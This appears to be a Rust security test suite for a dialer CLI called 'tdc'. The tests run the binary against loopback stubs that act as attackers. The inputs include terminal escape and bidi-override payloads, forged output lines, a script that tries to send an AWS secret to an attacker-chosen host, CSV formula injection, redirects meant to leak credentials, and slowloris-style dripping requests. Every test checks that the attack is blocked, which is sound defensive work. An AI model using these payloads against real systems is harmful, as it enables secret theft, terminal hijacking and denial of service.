//! What tdc promises when a server, a config file or a shared script means harm, each case
//! driven through the real binary against a loopback server that behaves like the attacker.

use crate::common;

use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use axum::body::Body;
use axum::extract::{Request, State};
use axum::http::StatusCode;
use axum::response::{IntoResponse, Response};
use axum::Router;
use common::{output, tdc, tdc_on, temp_dir, write_config, Sandbox};

/// Every request a stub saw: `METHOD URI authorization-header body`.
type Seen = Arc<Mutex<Vec<String>>>;

/// A stub that records each request and answers with `answer`.
fn recording_stub(
    answer: impl Fn(&str) -> Response + Clone + Send + Sync + 'static,
) -> (String, Seen, tokio::runtime::Runtime) {
    let seen = Seen::default();
    let app = Router::new()
        .fallback(move |State(seen): State<Seen>, request: Request| {
            let answer = answer.clone();
            async move {
                let (parts, body) = request.into_parts();
                let body = axum::body::to_bytes(body, 1 << 20)
                    .await
                    .unwrap_or_default();
                let auth = parts
                    .headers
                    .get("authorization")
                    .and_then(|v| v.to_str().ok())
                    .unwrap_or("-")
                    .to_string();
                let line = format!(
                    "{} {} {auth} {}",
                    parts.method,
                    parts.uri,
                    String::from_utf8_lossy(&body)
                );
                seen.lock().unwrap().push(line);
                answer(&parts.uri.to_string())
            }
        })
        .with_state(seen.clone());
    let (url, runtime) = common::serve(app);
    (url, seen, runtime)
}

fn json(body: &'static str) -> Response {
    ([("content-type", "application/json")], body).into_response()
}

fn basic(user: &str, password: &str) -> String {
    use base64::Engine;
    let token = base64::engine::general_purpose::STANDARD.encode(format!("{user}:{password}"));
    format!("Basic {token}")
}

#[test]
fn a_profiles_password_goes_to_its_own_host_only() {
    let (attacker, seen, _runtime) = recording_stub(|_| json(r#"{"campaigns": []}"#));
    let home = temp_dir("bound-credentials");
    write_config(
        &home,
        "default_profile = \"prod\"\n[profiles.prod]\nurl = \"https://dialer.example\"\nuser = \"ops\"\npassword_env = \"PROD_PW\"\n",
    );
    let (code, _, stderr) = output(
        tdc(&home)
            .args(["--url", &attacker, "eval", "td.campaigns()"])
            .env("PROD_PW", "prod-secret-1"),
    );
    assert_ne!(code, 0, "there is no password for the other host: {stderr}");
    assert!(
        stderr.contains(&format!("no user or password for {attacker}/")),
        "{stderr}"
    );
    assert!(
        seen.lock().unwrap().is_empty(),
        "nothing reached the other host"
    );
    let (code, stdout, _) = output(
        tdc(&home)
            .args(["--url", &attacker, "config"])
            .env("PROD_PW", "prod-secret-1"),
    );
    assert_eq!(code, 0);
    assert!(stdout.contains("prod not used"), "{stdout}");
    assert!(!stdout.contains("prod-secret-1"));

    // Credentials given for that URL explicitly are used.
    let (code, _, stderr) = output(
        tdc(&home)
            .args([
                "--url",
                &attacker,
                "--user",
                "guest",
                "eval",
                "td.campaigns()",
            ])
            .env("TDC_PASSWORD", "guest-pw"),
    );
    assert_eq!(code, 0, "{stderr}");
    let seen = seen.lock().unwrap();
    assert!(seen[0].contains(&basic("guest", "guest-pw")), "{seen:?}");
    assert!(!seen
        .iter()
        .any(|l| l.contains(&basic("ops", "prod-secret-1"))));
}

#[test]
fn a_password_inside_a_url_is_refused_and_never_printed() {
    let home = temp_dir("url-password");
    let (code, stdout, stderr) = output(tdc(&home).args([
        "--url",
        "https://ops:url-secret-9@dialer.example",
        "eval",
        "1",
    ]));
    assert_eq!(code, 2, "{stdout}");
    assert!(stderr.contains("ops:***@dialer.example"), "{stderr}");
    assert!(
        stderr.contains("password inside the URL is refused"),
        "{stderr}"
    );
    assert!(!stderr.contains("url-secret-9") && !stdout.contains("url-secret-9"));
}

#[test]
fn redirects_never_carry_credentials_or_writes_elsewhere() {
    let (elsewhere, elsewhere_seen, _other) = recording_stub(|_| json(r#"{"campaigns": []}"#));
    let target = elsewhere.clone();
    let (url, seen, _runtime) = recording_stub(move |uri| {
        let to = if uri.starts_with("/api/leads") {
            "/api/leads/again".to_string()
        } else {
            format!("{target}/api/campaigns/")
        };
        (StatusCode::TEMPORARY_REDIRECT, [("location", to)]).into_response()
    });
    let home = temp_dir("redirects");
    let run = |code: &str| {
        output(
            tdc(&home)
                .args(["--url", &url, "--user", "ops", "-v", "--yes", "eval", code])
                .env("TDC_PASSWORD", "redirect-secret"),
        )
    };
    let (code, _, stderr) = run("td.campaigns()");
    assert_eq!(code, 1);
    assert!(stderr.contains("redirected to another host"), "{stderr}");
    assert!(
        stderr.contains("tdc: < 307 GET /api/campaigns/limit/1000;0/: redirected to"),
        "{stderr}"
    );
    assert!(elsewhere_seen.lock().unwrap().is_empty(), "not followed");

    let (code, _, stderr) = run(r#"td.add_leads([#{ phone: "447700000001" }])"#);
    assert_eq!(code, 1);
    assert!(stderr.contains("redirected this write"), "{stderr}");
    let seen = seen.lock().unwrap();
    assert!(
        !seen.iter().any(|l| l.starts_with("POST /api/leads/again")),
        "the body was not re-sent: {seen:?}"
    );
}

#[test]
fn raw_calls_pass_the_same_guards_as_typed_ones() {
    let sandbox = Sandbox::start(&[]);
    let home = temp_dir("raw-guards");
    write_config(
        &home,
        &format!(
            "[profiles.ro]\nurl = \"{}\"\nuser = \"sandbox\"\npassword_env = \"PW\"\nread_only = true\n[profiles.rw]\nurl = \"{}\"\nuser = \"sandbox\"\npassword_env = \"PW\"\n",
            sandbox.url, sandbox.url
        ),
    );
    let eval = |profile: &str, extra: &[&str], code: &str| {
        output(
            tdc(&home)
                .args(["--profile", profile, "eval"])
                .args(extra)
                .arg(code)
                .env("PW", "sandbox"),
        )
    };
    let campaigns = || {
        let (_, stdout, _) = eval("rw", &[], "td.campaigns().len()");
        stdout.trim().to_string()
    };
    assert_eq!(campaigns(), "4");
    for code in [
        r#"td.get("/api/campaigns/clone", #{ campaign_id: 12 })"#,
        r#"td.put("/api/campaign-leads/mass-assign", #{ where: #{ id: [1] }, campaign_id: 13 })"#,
        r#"td.post("/api/leads", [#{ phone: "447700000002" }])"#,
    ] {
        let (status, _, stderr) = eval("ro", &[], code);
        assert_eq!(status, 1, "{code}");
        assert!(stderr.contains("read-only"), "{code}: {stderr}");
    }
    let (status, _, stderr) = eval(
        "rw",
        &["--dry-run"],
        r#"td.get("/api/campaigns/clone", #{ campaign_id: 12 })"#,
    );
    assert_eq!(status, 0, "{stderr}");
    assert!(
        stderr.contains("dry-run: GET /api/campaigns/clone"),
        "{stderr}"
    );
    assert_eq!(campaigns(), "4", "nothing was cloned");

    // A real write through the raw hatch is audited.
    let (status, _, stderr) = eval(
        "rw",
        &[],
        r#"td.put("/api/campaign-leads/mass-assign", #{ where: #{ id: [1] }, campaign_id: 13 })"#,
    );
    assert_eq!(status, 0, "{stderr}");
    let audit = std::fs::read_to_string(home.join(".local/state/tdc/audit.jsonl")).unwrap();
    assert!(
        audit.contains("\"PUT\"") && audit.contains("/api/campaign-leads/mass-assign"),
        "{audit}"
    );
}

#[test]
fn server_text_cannot_drive_the_terminal() {
    let (url, _seen, _runtime) = recording_stub(|_| {
        (
            StatusCode::UNPROCESSABLE_ENTITY,
            [("content-type", "application/json")],
            "{\"success\":false,\"message\":\"bad \\u001b]0;pwned\\u0007\\u001b[2J\\u001b]52;c;ZXZpbA==\\u0007 lead\"}",
        )
            .into_response()
    });
    let home = temp_dir("escapes");
    let (code, stdout, stderr) = output(
        tdc(&home)
            .args(["--url", &url, "--user", "ops", "--yes", "eval"])
            .arg(r#"td.add_leads([#{ phone: "447700000003" }])"#)
            .env("TDC_PASSWORD", "x"),
    );
    assert_eq!(code, 1);
    assert!(
        !stderr.contains('\u{1b}') && !stdout.contains('\u{1b}'),
        "{stderr:?}"
    );
    assert!(
        stderr.contains("\\e]0;pwned"),
        "shown, not obeyed: {stderr}"
    );
    // A record's value in a table is shown the same way.
    let (code, stdout, _) = output(tdc(&home).args([
        "--sandbox",
        "eval",
        "print(table([#{ name: \"a\\x1b]52;c;ZXZpbA==\\x07b\" }]))",
    ]));
    assert_eq!(code, 0);
    assert!(!stdout.contains('\u{1b}'), "{stdout:?}");
}

#[test]
fn answers_cannot_push_memory_past_the_caps() {
    // An endless answer, and one that announces 10 GB.
    let app = Router::new().route(
        "/api/endless",
        axum::routing::get(|| async {
            let chunk = bytes_of_json();
            let stream =
                futures_util::stream::repeat_with(move || Ok::<_, std::io::Error>(chunk.clone()));
            Response::builder()
                .header("content-type", "application/json")
                .body(Body::from_stream(stream))
                .unwrap()
        }),
    );
    let (url, _runtime) = common::serve(app);
    // A server that announces 10 GB (hyper will not send such a lie, so a bare socket does).
    let liar = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let liar_url = format!("http://{}", liar.local_addr().unwrap());
    std::thread::spawn(move || {
        use std::io::{Read, Write};
        for stream in liar.incoming().flatten().take(4) {
            let mut stream = stream;
            let mut request = [0u8; 4096];
            let _ = stream.read(&mut request);
            let _ = stream.write_all(
                b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 10000000000\r\n\r\n{}",
            );
        }
    });
    let home = temp_dir("memory");
    write_config(
        &home,
        &format!(
            "[profiles.small]\nurl = \"{url}\"\nuser = \"ops\"\npassword_env = \"PW\"\nmax_response_mb = 4\n[profiles.liar]\nurl = \"{liar_url}\"\nuser = \"ops\"\npassword_env = \"PW\"\nmax_response_mb = 4\n"
        ),
    );
    let started = Instant::now();
    let (code, _, stderr) = output(
        tdc(&home)
            .args(["--profile", "small", "eval", "td.get(\"/api/endless\")"])
            .env("PW", "x"),
    );
    assert_eq!(code, 1);
    assert!(stderr.contains("larger than 4 MiB"), "{stderr}");
    assert!(started.elapsed() < Duration::from_secs(30));
    let (code, _, stderr) = output(
        tdc(&home)
            .args(["--profile", "liar", "eval", "td.get(\"/api/huge\")"])
            .env("PW", "x"),
    );
    assert_eq!(code, 1);
    assert!(stderr.contains("larger than 4 MiB"), "{stderr}");
}

fn bytes_of_json() -> axum::body::Bytes {
    axum::body::Bytes::from(format!("[{}", "1,".repeat(32 * 1024)))
}

#[test]
fn password_cmd_gives_one_line_in_time_and_tdc_config_does_not_run_it() {
    let (url, seen, _runtime) = recording_stub(|_| json(r#"{"campaigns": []}"#));
    let home = temp_dir("password-cmd");
    let marker = home.join("ran");
    let profile = |command: &str| {
        write_config(
            &home,
            &format!(
                "[profiles.p]\nurl = \"{url}\"\nuser = \"ops\"\npassword_cmd = \"{command}\"\npassword_cmd_timeout_s = 1\n"
            ),
        );
    };
    profile("printf 'first-line\\\\nsecond-line\\\\n'");
    let (code, _, stderr) = output(tdc(&home).args(["--profile", "p", "eval", "td.campaigns()"]));
    assert_eq!(code, 0, "{stderr}");
    assert!(seen.lock().unwrap()[0].contains(&basic("ops", "first-line")));

    profile("sleep 20");
    let started = Instant::now();
    let (code, _, stderr) = output(tdc(&home).args(["--profile", "p", "eval", "1"]));
    assert_eq!(code, 2);
    assert!(stderr.contains("did not finish within 1 s"), "{stderr}");
    assert!(started.elapsed() < Duration::from_secs(10));

    profile("true");
    let (code, _, stderr) = output(tdc(&home).args(["--profile", "p", "eval", "1"]));
    assert_eq!(code, 2);
    assert!(stderr.contains("printed no password"), "{stderr}");

    profile(&format!("touch {}", marker.display()));
    let (code, stdout, _) = output(tdc(&home).args(["--profile", "p", "config"]));
    assert_eq!(code, 0);
    assert!(stdout.contains("not run to show it"), "{stdout}");
    assert!(!marker.exists(), "tdc config ran password_cmd");
}

#[test]
fn config_files_others_can_write_are_refused() {
    let home = temp_dir("config-mode");
    let path = write_config(&home, "[profiles.p]\nurl = \"https://dialer.example\"\n");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o666)).unwrap();
        let (code, _, stderr) = output(tdc(&home).args(["config"]));
        assert_eq!(code, 2);
        assert!(stderr.contains("others can write to it"), "{stderr}");
    }
}

#[cfg(unix)]
fn mode_of(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

#[cfg(unix)]
#[test]
fn files_with_lead_data_are_private_whatever_existed_before() {
    use std::os::unix::fs::PermissionsExt;
    let sandbox = Sandbox::start(&[]);
    let home = temp_dir("private-files");
    let audit = home.join(".local/state/tdc/audit.jsonl");
    std::fs::create_dir_all(audit.parent().unwrap()).unwrap();
    std::fs::write(&audit, "").unwrap();
    std::fs::set_permissions(&audit, std::fs::Permissions::from_mode(0o644)).unwrap();
    let journal = home.join("import.journal");
    let allow = format!("--allow-write={}", home.display());
    let (code, _, stderr) = output(tdc_on(&sandbox, &home).args([
        "--yes",
        &allow,
        "eval",
        &format!(
            "td.add_leads([#{{ phone: \"447700000004\", original_identifier: \"p-1\" }}], #{{ journal: \"{}\" }}).len()",
            journal.display()
        ),
    ]));
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(mode_of(&audit), 0o600);

    // The sandbox's state file, and a spreadsheet-safe export.
    let state = home.join("state.json");
    let twin = Sandbox::start(&["--state", state.to_str().unwrap()]);
    let csv = home.join("leads.csv");
    let (code, _, stderr) = output(tdc_on(&twin, &home).args([
        "--yes",
        &allow,
        "eval",
        &format!(
            "td.add_leads([#{{ phone: \"447700000005\", first_name: \"=HYPERLINK(1)\" }}]); write_csv([#{{ a: \"=1+2\", b: -5, c: \"@x\" }}], \"{}\", #{{ excel_safe: true }})",
            csv.display()
        ),
    ]));
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(mode_of(&state), 0o600);
    assert_eq!(
        std::fs::read_to_string(&csv).unwrap(),
        "a,b,c\n'=1+2,-5,'@x\n"
    );
}

#[test]
fn the_twin_drops_half_sent_requests_and_keeps_serving() {
    use std::io::Write;
    let sandbox = Sandbox::start(&["--leads", "100", "--cdrs", "100"]);
    let address = sandbox.url.trim_start_matches("http://").to_string();
    let mut held: Vec<std::net::TcpStream> = (0..200)
        .map(|_| {
            let mut stream = std::net::TcpStream::connect(&address).unwrap();
            stream
                .write_all(b"GET /api/cdrs HTTP/1.1\r\nHost: x\r\n")
                .unwrap();
            stream
        })
        .collect();
    let home = temp_dir("half-open");
    let (code, stdout, stderr) =
        output(tdc_on(&sandbox, &home).args(["eval", "td.campaigns().len()"]));
    assert_eq!((code, stdout.trim()), (0, "4"), "still serving: {stderr}");
    // Within the header time-out (10 s) every half-sent request's connection is closed.
    std::thread::sleep(Duration::from_secs(12));
    let closed = held.iter_mut().filter(|stream| is_closed(stream)).count();
    assert_eq!(closed, 200);
}

/// Whether the twin closed `stream`: end of file, an error answer (followed by the close), or
/// a reset (a connection closed with data of the client's unread). Waits 200 ms for a sign.
fn is_closed(mut stream: &std::net::TcpStream) -> bool {
    use std::io::Read;
    stream
        .set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    let mut answer = Vec::new();
    match stream.read_to_end(&mut answer) {
        Ok(_) => true,
        Err(e) => !matches!(
            e.kind(),
            std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
        ),
    }
}

#[test]
fn the_twin_refuses_a_public_address_unless_asked() {
    let home = temp_dir("public");
    let (code, _, stderr) = output(tdc(&home).args(["sandbox", "--addr", "0.0.0.0:0"]));
    assert_eq!(code, 2);
    assert!(stderr.contains("pass --public"), "{stderr}");
}

#[test]
fn scripts_have_bounded_powers() {
    let (attacker, seen, _runtime) = recording_stub(|_| json(r#"{"campaigns": []}"#));
    let home = temp_dir("powers");
    let config = write_config(&home, "[profiles.p]\nurl = \"https://dialer.example\"\n");
    let outside = temp_dir("powers-outside");
    let eval = |extra: &[&str], code: &str| {
        output(
            tdc(&home)
                .args(["--sandbox", "eval"])
                .args(extra)
                .arg(code)
                .env("AWS_SECRET_ACCESS_KEY", "aws-secret-7"),
        )
    };
    // tdc's own files, whatever is allowed.
    let read_config = format!("read_csv(\"{}\")", config.display());
    for extra in [&[][..], &["--allow-all"][..]] {
        let (code, _, stderr) = eval(extra, &read_config);
        assert_eq!(code, 1);
        assert!(stderr.contains("one of tdc's own files"), "{stderr}");
    }
    // Files outside the script's folder and the working directory.
    let target = outside.join("out.csv");
    let write = format!("write_csv([#{{ a: 1 }}], \"{}\")", target.display());
    let (code, _, stderr) = eval(&[], &write);
    assert_eq!(code, 1);
    assert!(
        stderr.contains(&format!(
            "allow it with --allow-write {}",
            outside.canonicalize().unwrap().display()
        )),
        "{stderr}"
    );
    assert!(!target.exists());
    let allow = format!("--allow-write={}", outside.display());
    let (code, _, stderr) = eval(&[&allow], &write);
    assert_eq!(code, 0, "{stderr}");
    assert!(target.exists());
    // The environment.
    let (code, _, stderr) = eval(&[], "env(\"HOME\")");
    assert_eq!(code, 1);
    assert!(
        stderr.contains("allow it with --allow-env HOME"),
        "{stderr}"
    );
    let (code, stdout, _) = eval(&["--allow-env=HOME"], "env(\"HOME\")");
    assert_eq!(code, 0);
    assert!(stdout.contains("tdc-test"), "{stdout}");
    // A secret sent to a host of the script's choosing.
    let steal = format!(
        "dialer(#{{ url: \"{attacker}\", user: \"x\", password_env: \"AWS_SECRET_ACCESS_KEY\" }}).campaigns()"
    );
    let (code, _, stderr) = eval(&[], &steal);
    assert_eq!(code, 1);
    assert!(stderr.contains("--allow-net 127.0.0.1"), "{stderr}");
    let (code, _, stderr) = eval(&["--allow-net=127.0.0.1"], &steal);
    assert_eq!(code, 1);
    assert!(
        stderr.contains("--allow-env AWS_SECRET_ACCESS_KEY"),
        "{stderr}"
    );
    assert!(!stderr.contains("aws-secret-7"));
    // A dialer without a user is refused before anything is sent, not answered 401.
    let nameless = format!(
        "dialer(#{{ url: \"{attacker}\", password_env: \"AWS_SECRET_ACCESS_KEY\" }}).campaigns()"
    );
    let allowed = ["--allow-net=127.0.0.1", "--allow-env=AWS_SECRET_ACCESS_KEY"];
    let (code, _, stderr) = eval(&allowed, &nameless);
    assert_eq!(code, 1);
    assert!(
        stderr.contains(&format!("no user for {attacker}/")),
        "{stderr}"
    );
    assert!(
        seen.lock().unwrap().is_empty(),
        "nothing reached the attacker"
    );
}

#[test]
fn a_slow_reader_of_a_long_listing_holds_bounded_memory() {
    // Each row waits for a request of its own, or for a reader taking 1 ms a line: the
    // listing is read far slower than it could be fetched. The stream's budget (20 pages,
    // 32 MiB of answers) holds about 90 MB in all; before it did, memory grew by tens of MB
    // a second, pages fetched ahead of the reader piling up.
    let sandbox = Sandbox::start(&["--cdrs", "200000", "--leads", "10"]);
    let home = temp_dir("slow-reader");
    let script = home.join("slow.rhai");
    std::fs::write(
        &script,
        "let n = 0;\nfor c in td.cdrs() { td.campaigns(); n += 1; if n % 100 == 0 { print(n); } }\n",
    )
    .unwrap();
    let (peak, lines) =
        common::peak_mb_with_slow_reader(tdc_on(&sandbox, &home).arg("run").arg(&script), 10);
    assert!(lines > 0, "the script made progress");
    assert!(
        peak < 160,
        "a script calling the dialer for each row peaked at {peak} MB"
    );
    let (peak, lines) = common::peak_mb_with_slow_reader(
        tdc_on(&sandbox, &home).args(["eval", "-o", "ndjson", "td.cdrs()"]),
        10,
    );
    assert!(lines > 1000, "the reader read {lines} lines");
    assert!(peak < 160, "ndjson into a slow reader peaked at {peak} MB");
}

/// `command` with its address space limited to `mb` MB, as `ulimit -v` would.
fn with_memory_limit(command: &mut std::process::Command, mb: u64) -> &mut std::process::Command {
    use std::os::unix::process::CommandExt;
    let limit = libc::rlimit {
        rlim_cur: mb << 20,
        rlim_max: mb << 20,
    };
    // SAFETY: setrlimit is async-signal-safe and touches nothing of the parent's.
    unsafe {
        command.pre_exec(move || match libc::setrlimit(libc::RLIMIT_AS, &limit) {
            0 => Ok(()),
            _ => Err(std::io::Error::last_os_error()),
        })
    }
}

#[test]
fn running_out_of_memory_is_one_error_line_not_an_abort() {
    let home = temp_dir("out-of-memory");
    let (code, stdout, stderr) = output(with_memory_limit(
        tdc(&home).args([
            "--sandbox",
            "eval",
            "let a = []; let s = \"0123456789\"; loop { a.push(s + a.len()); }",
        ]),
        400,
    ));
    assert_eq!(code, 1, "{stderr}");
    assert_eq!(stdout, "");
    let lines: Vec<&str> = stderr
        .lines()
        .filter(|l| !l.starts_with("tdc: no dialer"))
        .collect();
    assert_eq!(lines.len(), 1, "{stderr}");
    assert!(lines[0].starts_with("tdc: out of memory ("), "{stderr}");
}

#[test]
fn json_of_values_nested_past_the_parsers_depth_is_refused() {
    // 20,000 arrays one inside the other: each level was copied whole on the way to JSON.
    let home = temp_dir("deep-json");
    let deep = "let a = []; for i in 0..20000 { a = [take(a)]; }";
    let cases = [format!("{deep} to_json(a).len()"), format!("{deep} a")];
    for code_text in cases {
        let started = Instant::now();
        let (code, stdout, stderr) = output(with_memory_limit(
            tdc(&home).args(["--sandbox", "eval", &code_text]),
            1024,
        ));
        assert_eq!((code, stdout.as_str()), (1, ""), "{code_text}: {stderr}");
        assert!(
            stderr.contains("nested deeper than 127 levels cannot be written as JSON"),
            "{code_text}: {stderr}"
        );
        assert!(started.elapsed() < Duration::from_secs(20), "{code_text}");
    }
}

#[test]
fn keys_c1_controls_bidi_overrides_and_newlines_from_a_server_are_shown_escaped() {
    // A record whose key sets the title and clears the screen, whose values carry a C1 CSI
    // and a right-to-left override; and an error whose message forges a line of tdc's own.
    let (url, _seen, _runtime) = recording_stub(|uri| {
        if !uri.starts_with("/api/campaigns") {
            return (
                StatusCode::UNPROCESSABLE_ENTITY,
                [("content-type", "application/json")],
                r#"{"success":false,"message":"refused\ntdc: all 3 leads added\r\n"}"#,
            )
                .into_response();
        }
        json(
            r#"{"campaigns":[{"id":1,"name\u001b]0;pwned\u0007\u001b[2J":"x","note":"a\u009b2Jb","file":"invoice\u202efdp.exe\u2066"}]}"#,
        )
    });
    let home = temp_dir("server-text");
    let tdc_at = || {
        let mut command = tdc(&home);
        command
            .args(["--url", &url, "--user", "ops", "--yes"])
            .env("TDC_PASSWORD", "x");
        command
    };
    let (code, stdout, stderr) = output(tdc_at().args(["eval", "-o", "table", "td.campaigns()"]));
    assert_eq!(code, 0, "{stderr}");
    for raw in ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}', '\u{2066}'] {
        assert!(!stdout.contains(raw), "{raw:?} sent raw: {stdout:?}");
    }
    assert!(stdout.contains("name\\e]0;pwned\\x07\\e[2J"), "{stdout}");
    assert!(stdout.contains("a\\x9b2Jb"), "{stdout}");
    assert!(
        stdout.contains("invoice\\u{202e}fdp.exe\\u{2066}"),
        "{stdout}"
    );
    let (code, _, stderr) =
        output(tdc_at().args(["eval", r#"td.add_leads([#{ phone: "447700000003" }])"#]));
    assert_eq!(code, 1);
    assert!(
        stderr.lines().all(|line| !line.starts_with("tdc: all 3")),
        "a forged line: {stderr}"
    );
    assert!(
        stderr.contains("refused\\ntdc: all 3 leads added\\x0d\\n"),
        "{stderr}"
    );
}

/// A connection to `address` from 127.0.0.2 that sends an authenticated POST's headers
/// announcing a 1,000-byte body, then its first byte; `None` when the twin refuses it.
fn dripping_post(address: std::net::SocketAddr) -> Option<std::net::TcpStream> {
    use std::io::Write;
    let socket = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None).ok()?;
    socket
        .bind(&std::net::SocketAddr::from(([127, 0, 0, 2], 0)).into())
        .ok()?;
    socket.connect(&address.into()).ok()?;
    let mut stream: std::net::TcpStream = socket.into();
    let head = format!(
        "POST /api/leads HTTP/1.1\r\nHost: x\r\nAuthorization: {}\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n[",
        basic("sandbox", "sandbox")
    );
    stream.write_all(head.as_bytes()).ok()?;
    Some(stream)
}

/// Seconds a plain authenticated GET from 127.0.0.1 waits for its answer's first line.
fn answered_in(address: std::net::SocketAddr) -> Duration {
    use std::io::{Read, Write};
    let started = Instant::now();
    let mut stream = std::net::TcpStream::connect(address).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let request = format!(
        "GET /api/campaigns HTTP/1.1\r\nHost: x\r\nAuthorization: {}\r\nConnection: close\r\n\r\n",
        basic("sandbox", "sandbox")
    );
    stream.write_all(request.as_bytes()).unwrap();
    let mut first = [0u8; 12];
    let read = stream.read_exact(&mut first);
    assert!(read.is_ok(), "no answer in 10 s");
    assert_eq!(&first, b"HTTP/1.1 200");
    started.elapsed()
}

#[test]
fn dripping_request_bodies_cannot_starve_the_twin() {
    use std::io::Write;
    let sandbox = Sandbox::start(&["--leads", "10", "--cdrs", "10"]);
    let address: std::net::SocketAddr = sandbox.url.trim_start_matches("http://").parse().unwrap();
    // 600 POSTs from one address, each dripping its body a byte at a time: more than the
    // twin's 512 slots.
    let mut drips: Vec<std::net::TcpStream> =
        (0..600).filter_map(|_| dripping_post(address)).collect();
    let started = Instant::now();
    while started.elapsed() < Duration::from_secs(3) {
        for stream in &mut drips {
            let _ = stream.write_all(b" ");
        }
        std::thread::sleep(Duration::from_millis(500));
    }
    let waited = answered_in(address);
    assert!(waited < Duration::from_secs(2), "answered after {waited:?}");
    // Within the body's time-out (10 s after the headers) every dripping request is answered
    // 408 or closed, however steadily it drips.
    while started.elapsed() < Duration::from_secs(13) {
        for stream in &mut drips {
            let _ = stream.write_all(b" ");
        }
        std::thread::sleep(Duration::from_millis(500));
    }
    let still_open = drips.iter().filter(|stream| !is_closed(stream)).count();
    assert_eq!(still_open, 0, "dripping requests still held after 13 s");
}
